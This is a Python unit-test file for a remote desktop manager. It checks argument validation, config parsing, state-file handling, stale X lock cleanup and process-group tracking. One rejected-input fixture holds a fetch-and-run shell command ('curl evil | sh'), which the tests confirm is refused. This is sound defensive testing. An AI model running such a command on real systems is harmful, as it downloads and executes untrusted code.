"""Desktop manager pieces that need no X server: validation, config, state file, X locks."""

from __future__ import annotations

import contextlib
import os
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import psutil
import pytest

from relay.desktops import DesktopSettings, missing_binaries, process_desktops
from relay.desktops.audio import (
    REASON_NOT_REQUESTED,
    REASON_NOT_STARTED,
    REASON_UNAVAILABLE,
    audio_outcome,
)
from relay.desktops.displays import clean_stale_x_locks, x_display_alive
from relay.desktops.launch import desktop_env
from relay.desktops.probe import ProbeFailed, check_banner
from relay.desktops.process import (
    ChildProcess,
    DesktopProcesses,
    group_exists,
    working_directory,
)
from relay.desktops.state import Desktop, StateFile
from relay.desktops.validation import check_apps, parse_geometry
from wire.errors import ErrorCode, InvalidArgs, OpError, RelaydeskError

pytestmark = pytest.mark.unit

BAD_STARTS = [
    ({"kind": "vmware"}, "kind"),
    ({"geometry": "639x480"}, "geometry"),
    ({"geometry": "7681x4320"}, "geometry"),
    ({"geometry": "1280*800"}, "geometry"),
    ({"depth": 8}, "depth"),
    ({"depth": True}, "depth"),
    ({"slot": "Main"}, "slot"),
    ({"slot": "-x"}, "slot"),
    ({"slot": "a" * 33}, "slot"),
    ({"audio": "yes"}, "audio"),
    ({"apps": "xterm"}, "apps"),
    ({"apps": [""]}, "apps"),
    ({"apps": ["sh -c 'curl evil | sh'"]}, "apps"),
    ({"started_by": 7}, "started_by"),
]


@pytest.fixture
def config(tmp_path: Path) -> DesktopSettings:
    return DesktopSettings(state_dir=tmp_path / "state")


@pytest.mark.parametrize(("args", "field"), BAD_STARTS)
async def test_bad_start_names_the_field_and_starts_nothing(
    config: DesktopSettings, args: dict[str, object], field: str
) -> None:
    before = {p.pid for p in psutil.Process().children(recursive=True)}
    mgr = process_desktops(config)
    with pytest.raises(InvalidArgs) as err:
        await mgr.start(**args)  # type: ignore[arg-type]
    assert err.value.details == {"field": field}
    assert err.value.to_dict()["code"] == "invalid_args"
    assert {p.pid for p in psutil.Process().children(recursive=True)} <= before
    assert not config.state_file.exists()
    await mgr.close(stop_desktops=True)


async def test_local_kind_is_not_this_managers_job(config: DesktopSettings) -> None:
    mgr = process_desktops(config)
    with pytest.raises(OpError) as err:
        await mgr.start(kind="local")
    assert err.value.code is ErrorCode.UNAVAILABLE
    await mgr.close(stop_desktops=False)


@pytest.mark.parametrize(
    ("args", "field"),
    [
        ({"kind": "virtual", "slot": "main", "desktop_session_id": "abc"}, "desktop_session_id"),
        ({"kind": "virtual", "slot": "main", "desktop_session_id": "G" * 32}, "desktop_session_id"),
        ({"kind": "nope", "slot": "main", "desktop_session_id": "a" * 32}, "kind"),
        ({"kind": "virtual", "slot": "M", "desktop_session_id": "a" * 32}, "slot"),
    ],
)
async def test_bad_stop_names_the_field(
    config: DesktopSettings, args: dict[str, str], field: str
) -> None:
    mgr = process_desktops(config)
    with pytest.raises(InvalidArgs) as err:
        await mgr.stop(**args)
    assert err.value.details == {"field": field}
    await mgr.close(stop_desktops=True)


async def test_stop_of_empty_slot_is_idempotent(config: DesktopSettings) -> None:
    mgr = process_desktops(config)
    result = await mgr.stop(kind="virtual", slot="main", desktop_session_id="a" * 32)
    assert result == {"stopped": False, "was_running": False}
    assert (await mgr.probe("main"))["running"] is False
    await mgr.close(stop_desktops=True)


def test_audio_without_a_hook_starts_silent_and_says_why() -> None:
    # docs/audio.md: no sound server is no reason to refuse a desktop; the row says why.
    assert audio_outcome(True, False, {}) == REASON_UNAVAILABLE
    assert audio_outcome(True, True, {}) == REASON_NOT_STARTED
    assert audio_outcome(False, True, {}) == REASON_NOT_REQUESTED
    assert audio_outcome(True, True, {"PULSE_SERVER": "unix:/x"}) is None


def test_a_failed_probe_is_a_relaydesk_error_that_says_why() -> None:
    with pytest.raises(ProbeFailed) as failed:
        check_banner(b"HTTP/1.1 200")
    assert isinstance(failed.value, RelaydeskError)
    assert failed.value.code is ErrorCode.UNAVAILABLE
    assert str(failed.value) == failed.value.reason == "not an RFB banner: b'HTTP/1.1 200'"


def test_geometry_bounds_are_inclusive() -> None:
    assert parse_geometry("640x480") == (640, 480)
    assert parse_geometry("7680x4320") == (7680, 4320)


def test_apps_are_split_like_a_shell_but_never_run_by_one() -> None:
    allowed = frozenset({"xterm -e 'echo hi'"})
    assert check_apps(["xterm -e 'echo hi'"], (), allowed) == (("xterm", "-e", "echo hi"),)
    assert check_apps(None, ("xterm",)) == (("xterm",),)
    assert check_apps(["xterm"], ("xterm",)) == (("xterm",),)
    with pytest.raises(InvalidArgs):
        check_apps(["firefox"], ("xterm",))


def test_config_from_env_reads_relaydesk_variables(tmp_path: Path) -> None:
    env = {
        "RELAYDESK_MAX_DESKTOPS": "2",
        "RELAYDESK_WATCHDOG_INTERVAL_S": "0.5",
        "RELAYDESK_NOVNC_DIR": str(tmp_path),
        "RELAYDESK_STATE_DIR": str(tmp_path / "s"),
        "RELAYDESK_DESKTOP_APPS": "xterm, firefox --new-window",
        "RELAYDESK_X11VNC_FLAGS": "-wait 50",
    }
    cfg = DesktopSettings.from_env(env)
    assert cfg.max_desktops == 2
    assert cfg.watchdog_interval_s == 0.5
    assert cfg.novnc_dir == tmp_path
    assert cfg.state_file == tmp_path / "s" / "desktops.json"
    assert cfg.apps == ("xterm", "firefox --new-window")
    assert cfg.x11vnc_flags == ("-wait", "50")
    with pytest.raises(InvalidArgs):
        DesktopSettings.from_env({"RELAYDESK_MAX_DESKTOPS": "0"})


def test_missing_binaries_names_what_is_missing(tmp_path: Path) -> None:
    cfg = DesktopSettings(
        xvfb_binary="/nope/Xvfb", x11vnc_binary="/nope/x11vnc", novnc_dir=tmp_path
    )
    assert missing_binaries(cfg) == ["/nope/Xvfb", "/nope/x11vnc", "noVNC"]


def test_desktop_env_never_carries_relay_secrets(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RELAYDESK_RELAY_TOKEN", "rdk_x")
    monkeypatch.setenv("DISPLAY", ":99")
    env = desktop_env(7, "unix:path=/tmp/bus")
    assert env["DISPLAY"] == ":7"
    assert "RELAYDESK_RELAY_TOKEN" not in env
    assert env["DBUS_SESSION_BUS_ADDRESS"] == "unix:path=/tmp/bus"


def test_stale_x_locks_removed_only_when_their_pid_is_dead(tmp_path: Path) -> None:
    (tmp_path / ".X11-unix").mkdir()
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait(timeout=10)
    (tmp_path / ".X5-lock").write_text(f"{dead.pid:>10}\n")
    (tmp_path / ".X11-unix" / "X5").write_text("")
    (tmp_path / ".X6-lock").write_text(f"{os.getpid():>10}\n")
    (tmp_path / ".X7-lock").write_text("garbage\n")
    assert clean_stale_x_locks(tmp_path) == [5]
    assert not (tmp_path / ".X5-lock").exists()
    assert not (tmp_path / ".X11-unix" / "X5").exists()
    assert (tmp_path / ".X6-lock").exists()
    assert (tmp_path / ".X7-lock").exists()


def test_a_display_is_alive_while_its_socket_listens_even_without_a_lock(tmp_path: Path) -> None:
    # Xvfb started with -displayfd (every desktop) writes no lock file; its socket proves it.
    (tmp_path / ".X11-unix").mkdir()
    assert not x_display_alive(5, tmp_path)
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as server:
        server.bind(str(tmp_path / ".X11-unix" / "X5"))
        server.listen()
        assert x_display_alive(5, tmp_path)
    assert not x_display_alive(5, tmp_path), "a socket file nobody listens on holds nothing"


async def test_state_file_round_trip_and_corruption(tmp_path: Path) -> None:
    child = ChildProcess.spawn("sleeper", ["sleep", "30"], env={}, essential=True)
    desktop = Desktop(
        desktop_session_id="a" * 32,  # type: ignore[arg-type]
        kind="virtual",
        slot="main",
        geometry="1280x800",
        depth=24,
        display=9,
        started_at="2026-01-01T00:00:00.000Z",
        started_by=None,
        websockify_port=1,
        vnc_port=2,
        audio=False,
        processes=DesktopProcesses([child]),
    )
    state = StateFile(tmp_path / "desktops.json")
    state.save([desktop])
    assert oct(state.path.stat().st_mode & 0o777) == "0o600"
    [record] = state.load()
    adopted = Desktop.from_record(record)
    assert adopted.to_row() == desktop.to_row()
    assert adopted.processes.children[0].is_alive()
    assert await adopted.processes.stop(grace_s=5)
    assert not group_exists(child.pgid)
    state.path.write_text("{not json")
    assert state.load() == []


async def test_pid_reuse_is_not_mistaken_for_our_process() -> None:
    child = ChildProcess.spawn("sleeper", ["sleep", "30"], env={}, essential=True)
    impostor = ChildProcess.adopt("sleeper", child.pid, child.create_time - 100, True, 15)
    assert not impostor.is_alive()
    assert not impostor.owns_group()
    impostor.terminate()
    assert child.is_alive()
    child.kill()
    assert await DesktopProcesses([child]).stop(grace_s=5)
    assert child.returncode() == -signal.SIGKILL


async def test_children_start_in_the_home_directory(tmp_path: Path) -> None:
    assert working_directory({"HOME": str(tmp_path / "gone")}) == "/"
    assert working_directory({}) == "/"
    child = ChildProcess.spawn(
        "sleeper", ["sleep", "30"], env={"HOME": str(tmp_path)}, essential=True
    )
    try:
        assert os.readlink(f"/proc/{child.pid}/cwd") == str(tmp_path)
    finally:
        child.kill()
        assert await DesktopProcesses([child]).stop(grace_s=5)


def _zombie(pid: int) -> bool:
    try:
        return psutil.Process(pid).status() == psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:
        return False


def test_a_group_whose_members_have_all_exited_is_gone_before_they_are_collected() -> None:
    leader = subprocess.Popen(["sleep", "600"], process_group=0)
    exited = os.posix_spawn("/bin/true", ["true"], {}, setpgroup=leader.pid)
    running = os.posix_spawn("/bin/sleep", ["sleep", "600"], {}, setpgroup=leader.pid)
    try:
        deadline = time.monotonic() + 10
        while not _zombie(exited) and time.monotonic() < deadline:
            time.sleep(0.01)
        assert _zombie(exited), "the member did not exit"
        leader.kill()
        leader.wait()
        # The leader is gone; a member still runs.
        assert group_exists(leader.pid)
        os.kill(running, signal.SIGKILL)
        os.waitpid(running, 0)
        # Only a member that exited remains, uncollected by its parent: nothing of the group
        # runs, and a stop does not wait for that parent.
        os.killpg(leader.pid, 0)
        assert not group_exists(leader.pid)
    finally:
        for pid in (running, exited):
            with contextlib.suppress(ProcessLookupError, ChildProcessError):
                os.kill(pid, signal.SIGKILL)
                os.waitpid(pid, 0)
        leader.kill()
        leader.wait()


# Its first thread ends, another runs on (as Firefox's process does while it shuts down).
FIRST_THREAD_ENDS = (
    "import ctypes, threading, time;"
    "threading.Thread(target=time.sleep, args=(600,)).start();"
    "ctypes.CDLL(None).pthread_exit(None)"
)


def test_a_process_whose_first_thread_ended_still_runs_while_another_thread_does() -> None:
    program = subprocess.Popen([sys.executable, "-c", FIRST_THREAD_ENDS], process_group=0)
    try:
        deadline = time.monotonic() + 10
        while not _zombie(program.pid) and time.monotonic() < deadline:
            time.sleep(0.01)
        assert _zombie(program.pid), "the first thread did not end"
        assert len(os.listdir(f"/proc/{program.pid}/task")) == 2
        assert group_exists(program.pid)
        program.kill()
        program.wait()
        assert not group_exists(program.pid)
    finally:
        program.kill()
        program.wait()
